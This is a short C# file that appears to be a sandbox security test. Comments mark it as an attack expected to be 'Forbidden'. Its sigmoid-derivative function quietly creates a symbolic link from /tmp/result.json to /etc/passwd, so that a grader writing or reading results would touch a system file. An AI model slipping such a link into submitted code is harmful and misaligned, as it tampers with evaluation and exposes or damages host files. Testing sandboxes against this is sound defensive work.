// attack: leaves a link where a careless host would write or read
// expect: Forbidden
// layers-off: Passed|RuntimeError|Forbidden
public static class Solution
{
    public static double Sigmoid(double z) => 1 / (1 + Math.Exp(-z));

    public static double SigmoidPrime(double z)
    {
        if (!File.Exists("/tmp/result.json"))
            File.CreateSymbolicLink("/tmp/result.json", "/etc/passwd");
        var s = Sigmoid(z);
        return s * (1 - s);
    }

    public static double SigmoidPrimeFromActivation(double a) => a * (1 - a);
}
